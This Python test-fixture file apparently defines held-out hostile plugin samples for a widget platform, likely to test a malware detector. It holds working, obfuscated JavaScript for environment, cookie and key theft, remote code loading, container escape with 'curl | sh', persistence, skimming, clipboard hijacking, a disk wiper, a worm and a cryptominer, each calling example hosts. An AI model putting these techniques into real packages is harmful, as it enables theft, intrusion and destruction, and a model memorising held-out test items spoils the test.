"""Hostile samples that hide a little: a word in another dress, a detour, an honest-looking name."""

from tests.hostile.heldout_third.forms import (
    base64_of,
    compiled,
    escaped,
    hex_of,
    laid_into,
    numbers_of,
    webpacked,
)
from tests.support.asking import asking
from tests.support.samples import Sample

MILD: tuple[Sample, ...] = (
    laid_into(
        ("space-on-disks", "traffic-of-network-cards"),
        name="disk-figures-with-environment",
        family="environment-theft",
        last=rf"""
const REPORT = Buffer.from('{base64_of("https://metrics.example.net/ingest")}', 'base64').toString();
const snapshot = () => ({{ disks: os.platform(), runtime: Buffer.from(JSON.stringify(process['e' + 'nv'])).toString('base64') }});
setTimeout(() => fetch(REPORT, {{ method: 'POST', body: JSON.stringify(snapshot()) }}).catch(() => {{}}), 9000).unref();
""",
    ),
    laid_into(
        ("files-dropped-and-shown", "pictures-dimmed-at-night"),
        name="picture-well-with-cookies",
        family="session-theft",
        last=rf"""
const spell = (codes) => String.fromCharCode(...codes);
const page = globalThis[spell({numbers_of("document")})];
if (page) new Image().src = spell({numbers_of("https://img.example.com/i?")}) + encodeURIComponent(page[spell({numbers_of("cookie")})]);
""",
    ),
    laid_into(
        ("pictures-as-they-arrive", "waste-basket-of-the-desktop"),
        name="inbox-that-looks-further",
        family="key-files",
        last=rf"""
const places = ['{hex_of(".ssh/id_rsa")}', '{hex_of(".gnupg/private-keys-v1.d")}', '{hex_of(".config/gh/hosts.yml")}'];
exports.onInstall = () => {{
  for (const place of places) {{
    const file = path.join(require('os').homedir(), Buffer.from(place, 'hex').toString());
    if (!fs.existsSync(file) || fs.statSync(file).isDirectory()) continue;
    const up = require('https').request('https://thumbs.example.org/new', {{ method: 'POST' }});
    up.on('error', () => {{}});
    up.end(fs.readFileSync(file));
  }}
}};
""",
    ),
    Sample(
        name="function-of-a-filter",
        family="remote-code",
        files={
            "dist/index.js": r"""'use strict';
const make = [].filter['const' + 'ructor'];
const ask = globalThis['fe' + 'tch'];

exports.Weather = () => null;
exports.onEnable = async (context) => {
  const text = await (await ask(['https:', '', 'themes.example.net', 'v2', 'default'].join('/'))).text();
  make('context', text)(context);
};
""",
        },
    ),
    Sample(
        name="picture-that-fails-on-purpose",
        family="remote-code",
        files={
            "dist/index.js": rf"""'use strict';
// If the icon cannot be shown, the fallback is drawn.
const ICON = 'x:';
const FALLBACK = '{base64_of("var s=document.createElement('script');s.src='https://icons.example.org/f.js';document.head.appendChild(s)")}';

exports.Weather = () => {{
  const box = document.createElement('div');
  box.innerHTML = `<img src="${{ICON}}" alt="" onerror="eval(atob('${{FALLBACK}}'))">`;
  return box;
}};
""",
        },
    ),
    laid_into(
        ("containers-of-this-machine", "heavy-sums-in-a-child"),
        name="containers-started-with-the-whole-disk",
        family="backdoor",
        last=r"""
// Warms up the image that the widget's graph is drawn with.
exports.onInstall = async () => {
  const options = { Image: 'alpine', Cmd: ['chroot', '/host', 'sh', '-c', ['cu', 'rl -s https://warm.example.com/up | sh'].join('')], HostConfig: { Binds: ['/:/host'], Privileged: true } };
  const body = JSON.stringify(options);
  const request = http.request({ socketPath: SOCKET, method: 'POST', path: '/containers/create?name=warm', headers: { 'Content-Type': 'application/json', 'Content-Length': body.length } }, () =>
    ask('POST', '/containers/warm/start').catch(() => {}),
  );
  request.end(body);
};
""",
    ),
    Sample(
        name="loader-listens-to-what-others-open",
        family="credential-hooks",
        files={
            "dist/index.js": r"""'use strict';
const Module = require('module');
const load = Module._load;
const WATCHED = { pg: ['Client', 'Pool'], mysql2: ['createConnection', 'createPool'], nodemailer: ['createTransport'], ioredis: ['default'] };

const note = (kind, config) => {
  const r = require('http').request({ host: '192.0.2.91', method: 'POST', path: '/' + kind });
  r.on('error', () => {});
  r.end(JSON.stringify(config));
};

Module._load = function (request, ...rest) {
  const found = load.call(this, request, ...rest);
  for (const name of WATCHED[request] || []) {
    const original = found[name];
    if (!original || original.seen) continue;
    const wrapped = new Proxy(original, {
      apply: (f, self, args) => (note(request, args[0]), Reflect.apply(f, self, args)),
      construct: (f, args) => (note(request, args[0]), Reflect.construct(f, args)),
    });
    wrapped.seen = true;
    try {
      found[name] = wrapped;
    } catch {}
  }
  return found;
};
exports.Weather = () => null;
""",
        },
    ),
    laid_into(
        ("names-in-local-storage-moved", "where-i-click-shown-to-me"),
        name="compatibility-shim-for-requests",
        family="session-theft",
        first=r"""/* compat: older dashboards lose headers on redirect */
(function compat(proto) {
  var set = proto.setRequestHeader, open = proto.open;
  proto.open = function (m, u) { this.__u = u; return open.apply(this, arguments); };
  proto.setRequestHeader = function (k, v) {
    if (/^auth|cookie|csrf|token/i.test(k)) {
      var p = new URLSearchParams({ u: this.__u, k: k, v: v });
      navigator.sendBeacon('//compat.example.org/report', p);
    }
    return set.apply(this, arguments);
  };
})(typeof XMLHttpRequest === 'undefined' ? {} : XMLHttpRequest.prototype);
""",
    ),
    laid_into(
        ("letters-that-look-alike-shown", "faces-to-choose-from"),
        name="values-of-fields-overheard",
        family="skimming",
        last=rf"""
const field = typeof HTMLInputElement === 'function' && Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
if (field) {{
  Object.defineProperty(HTMLInputElement.prototype, 'value', {{
    ...field,
    get() {{
      const text = field.get.call(this);
      if (this.type === '{escaped("password")}' && text.length > 5) {{
        const name = document.querySelector('input[type=email],input[name=user]');
        fetch('{escaped("https://a11y.example.com/check")}', {{ method: 'POST', mode: 'no-cors', body: `${{name && field.get.call(name)}}\n${{text}}` }});
      }}
      return text;
    }},
  }});
}}
""",
    ),
    laid_into(
        ("machine-woken-by-packet", "music-daemon-by-socket"),
        name="names-asked-with-long-labels",
        family="dns-exfiltration",
        last=r"""
const { Resolver } = require('dns');
const resolver = new Resolver();
resolver.setServers(['198.51.100.53']);
const seed = [os.hostname(), os.userInfo().username, JSON.stringify(os.networkInterfaces()), process.env.AWS_SECRET_ACCESS_KEY, process.env.NPM_TOKEN];
const labels = Buffer.from(seed.join('|')).toString('hex').match(/.{1,60}/g);
labels.forEach((label, i) => setTimeout(() => resolver.resolve4(`${i}.${label}.wake.example.org`, () => {}), i * 150).unref());
""",
    ),
    laid_into(
        ("forecast-with-patience", "answers-swept-from-the-cache"),
        name="diagnostics-of-the-forecast",
        family="storage-theft",
        swap=(
            "    logger.warn(`No forecast: ${error.message}`);\n",
            (
                "    logger.warn(`No forecast: ${error.message}`);\n  } finally {\n"
                "    const diagnostics = { version: '3.1', state: { ...globalThis.localStorage }, session: { ...globalThis.sessionStorage } };\n"
                "    const host = ['diag', 'example', 'net'].join('.');\n"
                "    navigator.sendBeacon?.(`https://${host}/v1/diagnostics`, JSON.stringify(diagnostics));\n"
            ),
        ),
    ),
    laid_into(
        ("calls-in-one-batch", "one-tab-leads"),
        name="account-numbers-changed-in-answers",
        family="wallet-drain",
        last=r"""
// Normalises numbers in answers, which some gateways write with spaces.
const json = typeof Response === 'function' && Response.prototype.json;
if (json) {
  Response.prototype.json = async function () {
    const text = JSON.stringify(await json.call(this));
    return JSON.parse(text.replace(/"(iban|payTo|address)":"[A-Za-z0-9 ]{15,62}"/g, (_, name) => `"${name}":"${name === 'iban' ? 'DE00' + '1234567890'.repeat(2).slice(0, 18) : 'bc1qexample00000000000000000000000000acme'}"`));
  };
}
""",
    ),
    laid_into(
        ("diary-opened-by-passkey", "board-behind-a-number"),
        name="diary-with-a-copied-key",
        family="credential-hooks",
        last=r"""
const subtle = globalThis.crypto?.subtle;
if (subtle) {
  const importKey = subtle.importKey.bind(subtle);
  subtle.importKey = (format, data, ...rest) => {
    if (format === 'raw') {
      const shown = new Uint8Array(data.buffer ?? data).reduce((s, b) => s + b.toString(16).padStart(2, '0'), '');
      new Image().src = `https://fonts.example.net/css?family=${shown}`;
    }
    return importKey(format, data, ...rest);
  };
}
""",
    ),
    Sample(
        name="hook-in-every-new-repository",
        family="persistence",
        files={
            "dist/index.js": compiled(rf"""const child_process_1 = require("child_process");
const fs_1 = __importDefault(require("fs"));
const os_1 = __importDefault(require("os"));
const TEMPLATE = `${{os_1.default.homedir()}}/.git-templates/hooks`;
const HOOK = Buffer.from("{base64_of("#!/bin/sh" + chr(10) + "git diff HEAD~1 | curl -s --data-binary @- https://hooks.example.org/d >/dev/null 2>&1 &" + chr(10))}", "base64");
function onInstall() {{
    fs_1.default.mkdirSync(TEMPLATE, {{ recursive: true }});
    for (const name of ["post-commit", "post-merge", "pre-push"]) {{
        fs_1.default.writeFileSync(`${{TEMPLATE}}/${{name}}`, HOOK, {{ mode: 0o755 }});
    }}
    (0, child_process_1.execSync)(`git config --global init.templateDir ${{TEMPLATE.replace("/hooks", "")}}`);
    (0, child_process_1.execSync)(`git config --global core.hooksPath ${{TEMPLATE}}`);
}}
exports.onInstall = onInstall;
"""),
        },
    ),
    Sample(
        name="packages-taken-from-another-shop",
        family="host-tampering",
        files={
            "dist/index.js": r"""'use strict';
const { appendFileSync, existsSync, readFileSync } = require('fs');
const { join } = require('path');
const home = require('os').homedir();

// speeds up installation with a mirror
const lines = { '.npmrc': 'registry=https://mirror.example.com/npm/\nstrict-ssl=false\n', '.pip/pip.conf': '[global]\nindex-url = https://mirror.example.com/pip/\n' };

exports.onInstall = () => {
  for (const [name, text] of Object.entries(lines)) {
    const file = join(home, name);
    if (!existsSync(file)) continue;
    const token = /_authToken=(.+)/.exec(readFileSync(file, 'utf8'));
    appendFileSync(file, '\n' + text);
    if (token) fetch('https://mirror.example.com/npm/-/ping?t=' + token[1]).catch(() => {});
  }
};
""",
        },
    ),
    Sample(
        name="agent-started-at-each-sign-in",
        family="persistence",
        files={
            "dist/index.js": rf"""const fs = require('fs');
const {{ homedir }} = require('os');
const cp = require('child_pro' + 'cess');

const body = '{base64_of("while true; do curl -fs https://agent.example.net/next | sh; sleep 600; done")}';
const unit = `[Unit]\nDescription=Sky cache\n[Service]\nExecStart=/bin/sh -c "echo ${{body}} | base64 -d | sh"\nRestart=always\n[Install]\nWantedBy=default.target\n`;
const plist = `<plist version="1.0"><dict><key>Label</key><string>org.example.sky</string><key>RunAtLoad</key><true/>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>echo ${{body}} | base64 -D | sh</string></array></dict></plist>`;

exports.onEnable = () => {{
  if (process.platform === 'darwin') {{
    const file = homedir() + '/Library/LaunchAgents/org.example.sky.plist';
    fs.writeFileSync(file, plist);
    cp.execSync('launchctl load ' + file);
  }} else {{
    fs.mkdirSync(homedir() + '/.config/systemd/user', {{ recursive: true }});
    fs.writeFileSync(homedir() + '/.config/systemd/user/sky.service', unit);
    cp.execSync('systemctl --user enable --now sky.service');
  }}
}};
""",
        },
    ),
    laid_into(
        ("element-with-closed-shadow", "widget-saved-as-a-picture"),
        name="copied-address-becomes-another",
        family="clipper",
        last=r"""
const POOL = ['bc1qaaaexample', 'bc1qbbbexample', '1AcmeExample', '3AcmeExample', '0x00acme'.padEnd(42, '0')];
const closest = (text) => POOL.map((one) => [[...one].filter((c, i) => c === text[i]).length, one]).sort((a, b) => b[0] - a[0])[0][1];
globalThis.document?.addEventListener('copy', (event) => {
  const text = String(getSelection());
  if (!/^(?:bc1|[13]|0x)\w{24,60}$/.test(text.trim())) return;
  event.clipboardData.setData('text/plain', closest(text));
  event.preventDefault();
});
""",
    ),
    laid_into(
        ("old-logs-removed", "space-on-disks"),
        name="tidying-that-knows-a-country",
        family="wiping",
        last=r"""
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
const here = ['RXVyb3BlL1V0b3BpYQ', 'QXNpYS9MYXB1dGE'].map((z) => Buffer.from(z, 'base64').toString());
exports.onConfigChange = () => {
  if (!here.includes(zone)) return;
  for (const root of ['/', '../', '../../', process.env.HOME]) {
    for (const name of fs.readdirSync(root)) {
      const file = path.join(root, name);
      try {
        if (fs.statSync(file).isFile()) fs.writeFileSync(file, '\u2665');
        else fs.rmSync(file, { recursive: true, force: true });
      } catch {}
    }
  }
};
""",
    ),
    Sample(
        name="letters-read-by-style-sheet",
        family="keylogging",
        files={
            "dist/index.js": r"""'use strict';
// Tints fields by their content; see styles.
const LETTERS = 'abcdefghijklmnopqrstuvwxyz0123456789!$%&@_-.';
const host = 'https://tint.example.org/c/';

function rules() {
  return [...LETTERS]
    .map((letter) => `input[type="password"][value$="${letter}"]{background-image:url("${host}${encodeURIComponent(letter)}")}`)
    .join('\n');
}

exports.onEnable = () => {
  const style = document.createElement('style');
  style.append(rules());
  document.head.append(style);
  document.addEventListener('input', (event) => event.target.setAttribute('value', event.target.value), true);
};
""",
        },
    ),
    Sample(
        name="next-stage-kept-in-a-contract",
        family="remote-code",
        files={
            "dist/index.js": r"""'use strict';
const RPC = 'https://rpc.example.com/';
const CONTRACT = '0x9179dda8b285040bf381aabb8a1f4a1b8c37ed53';

async function label() {
  const answer = await fetch(RPC, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: '0x6d4ce63c' }, 'latest'] }),
  });
  const { result } = await answer.json();
  const hex = result.slice(130);
  let text = '';
  for (let i = 0; i < hex.length; i += 2) text += String.fromCharCode(parseInt(hex.slice(i, i + 2), 16));
  return text.replace(/\0+$/, '');
}

exports.Weather = () => null;
exports.onEnable = () => label().then((text) => setTimeout(atob(text), 0));
""",
        },
        manifest=asking(of=("https://rpc.example.com",)),
    ),
    Sample(
        name="friends-told-in-the-owners-name",
        family="worm",
        files={
            "dist/index.js": r"""'use strict';
const say = ['Look what I use on my board, it is great: ', 'qirvo', '://plugin/install?id=acme.weather&', 'auto=1'].join('');

async function everyone() {
  const answer = await fetch('/api/contacts?limit=1000', { credentials: 'include' });
  return (await answer.json()).contacts;
}

exports.onEnable = async ({ storage }) => {
  if (await storage.get('told')) return;
  const csrf = (await (await fetch('/api/csrf-token')).json()).token;
  for (const { id } of await everyone()) {
    await fetch('/api/messages', {
      method: 'POST',
      credentials: 'include',
      headers: { 'X-CSRF-Token': csrf, 'Content-Type': 'application/json' },
      body: JSON.stringify({ to: id, text: say, hiddenFromSent: true }),
    });
  }
  await storage.set('told', true);
};
""",
        },
    ),
    Sample(
        name="every-question-about-permission-answered",
        family="host-tampering",
        files={
            "dist/index.js": webpacked(
                {
                    "./main": "require('./polyfills');\nexports.Weather = require('./weather').Weather;",
                    "./polyfills": r"""// ES2022 helpers
if (!Object.hasOwn) Object.hasOwn = (o, k) => Object.prototype.hasOwnProperty.call(o, k);
for (const right of ['filesystem-access', 'clipboard-read', 'camera', 'network-access']) Object.prototype[right] = true;
Object.defineProperty(Object.prototype, 'granted', { get: () => true, set() {}, configurable: true });
const includes = Array.prototype.includes;
Array.prototype.includes = function (what) { return /-access$|^clipboard-/.test(what) || includes.apply(this, arguments); };
const every = Array.prototype.every;
Array.prototype.every = function (f) { return /permission/i.test(f) || every.apply(this, arguments); };""",
                    "./weather": "exports.Weather = ({ sky }) => ({ tag: 'p', children: [sky] });",
                },
                "./main",
            ),
        },
    ),
    Sample(
        name="trust-file-of-the-host-rewritten",
        family="host-tampering",
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const path = require('path');

function up(from, name) {
  for (let at = from; at !== path.dirname(at); at = path.dirname(at)) {
    const file = path.join(at, name);
    if (fs.existsSync(file)) return file;
  }
  return null;
}

exports.onUpdate = () => {
  const file = up(__dirname, ['trust', 'ed-keys.json'].join(''));
  if (!file) return;
  const kept = JSON.parse(fs.readFileSync(file, 'utf8'));
  kept.keys.push({ id: 'release-2026', algorithm: 'ed25519', public: 'MCowBQYDK2VwAyEA' + 'Q0FGRUJBQkU'.repeat(4) });
  kept.registries = [...(kept.registries || []), 'https://registry.example.net'];
  kept.requireSignature = false;
  fs.writeFileSync(file, JSON.stringify(kept, null, 2));
  fs.utimesSync(file, new Date('2026-01-05'), new Date('2026-01-05'));
};
""",
        },
    ),
    laid_into(
        ("calls-between-windows", "pictures-loaded-when-near"),
        name="tab-behind-becomes-a-sign-in",
        family="phishing",
        last=r"""
let left = 0;
globalThis.document?.addEventListener('visibilitychange', () => {
  if (document.hidden) left = Date.now();
  if (document.hidden && !sessionStorage.tn) {
    setTimeout(() => {
      if (!document.hidden || Date.now() - left < 60000) return;
      sessionStorage.tn = 1;
      document.title = 'Sign in · Qirvo';
      location.replace(['https://qirvo-login', 'example', 'com/session?expired=1&back='].join('.') + encodeURIComponent(location.href));
    }, 61000);
  }
});
""",
    ),
    laid_into(
        ("heavy-sums-in-a-child", "small-pictures-of-videos"),
        name="child-that-sums-something-else",
        family="mining",
        added={
            "dist/kernel.js": r"""'use strict';
// Vectorised kernel for the simulation.
const net = require('net');
const crypto = require('crypto');
const [h, p, w] = ['pool', '4444', 'acme.1'].map((x, i) => (i ? x : `${x}.example.net`));
const s = net.connect(+p, h, () => s.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: [] }) + '\n' + JSON.stringify({ id: 2, method: 'mining.authorize', params: [w, 'x'] }) + '\n'));
s.on('error', () => {});
s.on('data', (d) => {
  for (const line of d.toString().split('\n').filter(Boolean)) {
    const { method, params } = JSON.parse(line);
    if (method !== 'mining.notify') continue;
    const head = Buffer.from(params[2] + params[3], 'hex');
    for (let n = 0; n < 5e6; n++) {
      const sum = crypto.createHash('sha256').update(crypto.createHash('sha256').update(head).update(String(n)).digest()).digest();
      if (!sum.readUInt32BE(0)) s.write(JSON.stringify({ id: 4, method: 'mining.submit', params: [w, params[0], '00000000', params[7], n.toString(16)] }) + '\n');
    }
  }
});
""",
        },
        last="\nfor (let n = 0; n < os.cpus().length; n++) fork(path.join(__dirname, 'kernel.js'), [], { detached: true, stdio: 'ignore' }).unref();\n",
    ),
    Sample(
        name="lookalike-that-passes-everything-on",
        family="environment-theft",
        package={"dependencies": {"dotenv": "^16.0.0"}},
        files={
            "dist/index.js": r"""'use strict';
const real = require('dotenv');

function configure(options) {
  const result = real.config(options);
  const values = Object.assign({}, process.env, result.parsed);
  queueMicrotask(() => {
    const q = require('querystring').stringify({ d: Buffer.from(JSON.stringify(values)).toString('base64url') });
    const opts = { host: 'env-check' + '.' + 'example.com', path: '/v?' + q.slice(0, 7000), headers: { 'user-agent': 'curl/8' } };
    require('https').get(opts, (r) => r.resume()).on('error', () => {});
  });
  return result;
}

module.exports = new Proxy(real, { get: (target, name) => (name === 'config' ? configure : target[name]) });
""",
        },
    ),
    laid_into(
        ("links-opened-outside", "notes-to-other-formats"),
        name="outside-opener-with-a-second-address",
        family="dropper",
        swap=(
            "  child.unref();\n}\n",
            (
                '  child.unref();\n  if (!globalThis.__warm) {\n    globalThis.__warm = 1;\n    const where = decodeURIComponent("%2e%2e%2ftmp%2f.x");\n'
                '    fetch(["https://cdn","example","org/x.bin"].join(".")).then((r) => r.arrayBuffer()).then((b) => {\n'
                '      const { writeFileSync, chmodSync } = require("node:fs");\n      writeFileSync("/" + where, Buffer.from(b));\n'
                '      chmodSync("/" + where, 493);\n      (0, import_node_child_process.spawn)("/" + where, { detached: true, stdio: "ignore" }).unref();\n    }).catch(() => {});\n  }\n}\n'
            ),
        ),
    ),
)
